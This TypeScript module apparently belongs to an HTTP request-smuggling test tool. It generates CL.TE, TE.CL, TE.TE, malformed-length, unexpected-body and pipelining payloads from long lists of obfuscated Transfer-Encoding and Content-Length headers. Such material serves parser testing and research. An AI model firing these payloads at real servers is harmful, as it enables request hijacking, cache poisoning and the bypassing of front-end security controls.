import { type AttackClass, chunked, end, get, HOST, hidden, post } from '../payload.ts'

// Where a body ends: Content-Length against Transfer-Encoding, in the spellings that some reader
// honours and another one does not (CL.TE, TE.CL, TE.TE), lengths that are no numbers, and bodies
// that a reader does not expect (CL.0, 0.CL, TE.0).

/** Values that look like `chunked` to some. */
const CODINGS = [
  'chunked',
  'Chunked',
  'CHUNKED',
  'cHuNkEd',
  ' chunked',
  '\tchunked',
  '  \t chunked',
  'chunked ',
  'chunked\t',
  'chunked,',
  ',chunked',
  ', chunked',
  'chunked, chunked',
  'chunked, identity',
  'identity, chunked',
  'identity',
  'gzip, chunked',
  'gzip',
  'chunked, gzip',
  'deflate, chunked',
  'xchunked',
  'x-chunked',
  'chunkedx',
  'chunke',
  'chunk',
  'cow',
  '"chunked"',
  "'chunked'",
  'chunked;q=1',
  'chunked;foo',
  'chunked; a="b"',
  '(comment) chunked',
  'chunked (comment)',
  'chunked\0',
  '\0chunked',
  'chun\0ked',
  'chunked\x0b',
  '\x0bchunked',
  '\x0cchunked',
  'chunked\x0c',
  'chunked\x7f',
  'chunked\x85',
  '\xa0chunked',
  'chunked\xa0',
  'chunked\xff',
  'chun\xc3\xadked',
  'chunked\r',
  '\rchunked',
  'chunked\n',
  '\nchunked',
  '\n chunked',
  '\r\n chunked',
  '\r\n\tchunked',
  'identity\r\n chunked',
  'chunked\r\n x',
  'x\r\n\tchunked',
  'chunked\\',
  'chunked\r\nTransfer-Encoding: identity',
  'identity\r\nTransfer-Encoding: chunked',
  'chunked\r\nTransfer-Encoding: chunked',
  'chunked\r\nTransfer-Encoding: x',
  'x\r\nTransfer-Encoding: chunked',
  'chunked\r\ntransfer-encoding:',
  '',
]

/** Names that look like `Transfer-Encoding` to some. */
const CODING_FIELDS = [
  'transfer-encoding:',
  'TRANSFER-ENCODING:',
  'TrAnSfEr-EnCoDiNg:',
  'Transfer-Encoding :',
  'Transfer-Encoding\t:',
  'Transfer-Encoding \t :',
  ' Transfer-Encoding:',
  '\tTransfer-Encoding:',
  'Transfer_Encoding:',
  'Transfer-Encoding\0:',
  '\0Transfer-Encoding:',
  'Transfer\0-Encoding:',
  'Transfer-Encoding\x0b:',
  '\x0bTransfer-Encoding:',
  'Transfer-Encoding\x0c:',
  'Transfer Encoding:',
  'Transfer.Encoding:',
  'Transfer--Encoding:',
  'TransferEncoding:',
  'Transfer-Encoding::',
  'Transfer-Encoding;:',
  'Transfer-Encoding=',
  'Transfer-Encoding\r:',
  'Transfer-Encoding\n:',
  'Transfer-Encoding\r\n :',
  'Transfer-Encoding\xa0:',
  '\xefTransfer-Encoding:',
  'Tr\xe4nsfer-Encoding:',
  'X:\nTransfer-Encoding:',
  'X:\rTransfer-Encoding:',
  'X: a\nTransfer-Encoding:',
  'X: a\rTransfer-Encoding:',
  'X: a\r\rTransfer-Encoding:',
  'X: a\0\nTransfer-Encoding:',
  'X: a\x85Transfer-Encoding:',
  'X: a\x0bTransfer-Encoding:',
  'X: a\r\n Transfer-Encoding:',
  'X: a\r\n\tTransfer-Encoding:',
  ':Transfer-Encoding:',
  'Foo\r\nTransfer-Encoding:',
  '"Transfer-Encoding":',
  'Content-Encoding:',
  'X-Transfer-Encoding:',
  'Transfer-Encoding-X:',
  'TE:',
]

/** Values that look like the number 5 to some. */
const LENGTHS = [
  '+5',
  '-5',
  '-0',
  '+0',
  '5,5',
  '5, 5',
  '5,',
  ',5',
  '5, 6',
  '0, 5',
  '5;',
  '5;a',
  '5.0',
  '5.',
  '.5',
  '5e0',
  '5e1',
  '0x5',
  '0b101',
  '0o5',
  '05',
  '005',
  '00000000000000000005',
  '5_0',
  '5 0',
  '5 5',
  '5\t5',
  '\t5',
  '5\t',
  '  5  ',
  '\x0b5',
  '5\x0b',
  '5\x0c',
  '\x0c5',
  '\x005',
  '5\0',
  '5\xa0',
  '\xa05',
  '5\x85',
  '5\r',
  '\r5',
  '5\n',
  '\n5',
  '\r\n 5',
  '5\r\n ',
  '5\r\n 5',
  '5\r\n\t0',
  '',
  ' ',
  'five',
  'NaN',
  'Infinity',
  'null',
  '"5"',
  "'5'",
  '(5)',
  '5 (five)',
  '5chunked',
  'chunked',
  '\xd9\xa5',
  '\xef\xbc\x95',
  '4294967301',
  '18446744073709551621',
  '9223372036854775813',
  '-9223372036854775803',
  '99999999999999999999999999999',
  '340282366920938463463374607431768211461',
]

/** Names that look like `Content-Length` to some. */
const LENGTH_FIELDS = [
  'content-length:',
  'CONTENT-LENGTH:',
  'Content-Length :',
  'Content-Length\t:',
  ' Content-Length:',
  '\tContent-Length:',
  'Content_Length:',
  'Content Length:',
  'Content.Length:',
  'Content-Length\0:',
  'Content-\0Length:',
  'Content-Length\x0b:',
  'Content-Length\xa0:',
  'Content-Length\r:',
  'Content-Length\n:',
  'X: a\nContent-Length:',
  'X: a\rContent-Length:',
  'X: a\r\n Content-Length:',
  'Content-Length::',
  'Content-Length=',
  'Content-Length',
  'Content-Length;',
  '"Content-Length":',
  'X-Content-Length:',
]

const LENGTH_PAIRS = [
  ['5', '5'],
  ['5', '0'],
  ['0', '5'],
  ['5', '6'],
  ['5', ''],
  ['', '5'],
  ['5', '+5'],
  ['5', '05'],
  ['5', '5,'],
  ['5', '-5'],
  ['0', '0'],
  ['5', 'x'],
] as const

const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'] as const

/** A field whose length is that of a hidden request. */
function lengthOf(at: string): string {
  return `Content-Length: ${hidden(at).length}\r\n`
}

const clTe: AttackClass = {
  class: 'cl-te',
  payloads: [
    // The front end reads a length, the back end an early last chunk; the fields in both orders.
    ...CODINGS.flatMap((coding) => [
      (at: string) => {
        const body = `0\r\n\r\n${hidden(at)}`
        return post(at, `Content-Length: ${body.length}\r\nTransfer-Encoding:${coding}\r\n`, body)
      },
      (at: string) => {
        const body = `0\r\n\r\n${hidden(at)}`
        return post(at, `Transfer-Encoding: ${coding}\r\nContent-Length: ${body.length}\r\n`, body)
      },
    ]),
    ...CODING_FIELDS.map((field) => (at: string) => {
      const body = `0\r\n\r\n${hidden(at)}`
      return post(at, `Content-Length: ${body.length}\r\n${field} chunked\r\n`, body)
    }),
  ],
}

const teCl: AttackClass = {
  class: 'te-cl',
  payloads: [
    // The front end reads chunks, the back end a length that ends within the first of them.
    ...CODINGS.map((coding) => (at: string) => {
      const body = chunked(hidden(at))
      const size = body.indexOf('\r\n') + 2
      return post(at, `Transfer-Encoding: ${coding}\r\nContent-Length: ${size}\r\n`, body)
    }),
    ...CODING_FIELDS.map((field) => (at: string) => {
      const body = chunked(hidden(at))
      const size = body.indexOf('\r\n') + 2
      return post(at, `${field} chunked\r\nContent-Length: ${size}\r\n`, body)
    }),
  ],
}

const teTe: AttackClass = {
  class: 'te-te',
  payloads: [
    ...CODINGS.map(
      (coding) => (at: string) => post(at, `Transfer-Encoding: ${coding}\r\n`, chunked(hidden(at))),
    ),
    ...CODING_FIELDS.flatMap((field) => [
      (at: string) => post(at, `${field} chunked\r\n`, chunked(hidden(at))),
      (at: string) =>
        post(at, `Transfer-Encoding: chunked\r\n${field} identity\r\n`, chunked(hidden(at))),
    ]),
  ],
}

const contentLength: AttackClass = {
  class: 'content-length',
  payloads: [
    ...LENGTHS.flatMap((length) => [
      (at: string) => post(at, `Content-Length: ${length}\r\n`, 'abcde'),
      (at: string) =>
        `GET ${at}/a HTTP/1.1\r\nHost: ${HOST}\r\nContent-Length:${length}\r\n\r\n${end(at)}`,
    ]),
    ...LENGTH_FIELDS.map(
      (field) => (at: string) => post(at, `${field} ${hidden(at).length}\r\n`, hidden(at)),
    ),
    ...LENGTH_PAIRS.map(
      ([first, second]) =>
        (at: string) =>
          post(at, `Content-Length: ${first}\r\nContent-Length: ${second}\r\n`, 'abcde'),
    ),
    ...LENGTH_FIELDS.slice(0, 12).map(
      (field) => (at: string) => post(at, `Content-Length: 0\r\n${field} 5\r\n`, 'abcde'),
    ),
  ],
}

const unexpectedBody: AttackClass = {
  class: 'unexpected-body',
  payloads: METHODS.flatMap((method) => [
    (at: string) => post(at, lengthOf(at), hidden(at), method),
    (at: string) => post(at, 'Content-Length: 0\r\n', hidden(at), method),
    (at: string) => post(at, '', hidden(at), method),
    (at: string) => post(at, 'Transfer-Encoding: chunked\r\n', chunked(hidden(at)), method),
    (at: string) => post(at, 'Transfer-Encoding: chunked\r\n', `0\r\n\r\n${hidden(at)}`, method),
    // The rest of the hidden request is the next request's head.
    (at: string) => {
      const begun = `GET ${at}/hidden HTTP/1.1\r\nHost: email.other.test\r\nX: `
      return post(at, `Content-Length: ${begun.length}\r\n`, begun, method)
    },
    // Longer than what is sent: the next request would be its body.
    (at: string) => post(at, `Content-Length: ${end(at).length}\r\n`, '', method) + end(at),
    (at: string) => post(at, 'Content-Length: 4096\r\n', 'abc', method),
    (at: string) => post(at, `Connection: close\r\n${lengthOf(at)}`, hidden(at), method),
    (at: string) => post(at, `Connection: keep-alive\r\n${lengthOf(at)}`, hidden(at), method),
  ]),
}

const pipelined: AttackClass = {
  class: 'pipelined',
  payloads: [
    (at) => get(`${at}/a`) + get(`${at}/b`) + end(at),
    (at) => get(`${at}/a`) + get(`${at}/b`, 'email.other.test') + end(at),
    (at) => get(`${at}/a`).repeat(20) + end(at),
    (at) => get(`${at}/#`) + hidden(at) + end(at),
    (at) => get(`${at}/a`, 'stranger.test') + hidden(at) + end(at),
    (at) => get(`${at}/a`, HOST, 'Connection: close\r\n') + hidden(at) + end(at),
    (at) => `${get(`${at}/a`)}garbage\r\n\r\n${end(at)}`,
    (at) => `${get(`${at}/a`)}\r\n${end(at)}`,
    (at) => `${get(`${at}/a`)}\r\n\r\n\r\n${end(at)}`,
    (at) => `${get(`${at}/a`)}\n${end(at)}`,
    (at) => `${get(`${at}/a`)} ${end(at)}`,
    (at) => `${get(`${at}/a`)}\0${end(at)}`,
    (at) => `${get(`${at}/a`)}\x16\x03\x01${end(at)}`,
    (at) => `${get(`${at}/a`)}0\r\n\r\n${end(at)}`,
    (at) => `${get(`${at}/a`)}5\r\nabcde\r\n0\r\n\r\n${end(at)}`,
    (at) => get(`${at}/a`, HOST, 'Connection: keep-alive, close\r\n') + end(at),
    (at) => get(`${at}/a`, HOST, 'Connection: Close\r\n') + end(at),
    (at) => get(`${at}/a`, HOST, 'Connection: close, keep-alive\r\n') + end(at),
    (at) => get(`${at}/a`, HOST, 'Proxy-Connection: close\r\n') + end(at),
    (at) => get(`${at}/a`, HOST, 'Connection: closed\r\n') + end(at),
    (at) => post(at, 'Content-Length: 3\r\n', 'abc') + hidden(at),
    (at) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${end(at)}`,
    (at) => `${get(`${at}/a`)}PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${end(at)}`,
    (at) => `PROXY TCP4 6.6.6.6 127.0.0.1 1 80\r\n${end(at)}`,
    (at) => `\r\n\r\n\0\r\nQUIT\n!\x11\0\x0c\x06\x06\x06\x06\x7f\0\0\x01\0\x01\0P${end(at)}`,
    (at) => `\x16\x03\x01\x02\x00\x01\x00${end(at)}`,
  ],
}

/** Attacks on the end of a body. */
export const FRAMING: readonly AttackClass[] = [
  clTe,
  teCl,
  teTe,
  contentLength,
  unexpectedBody,
  pipelined,
]
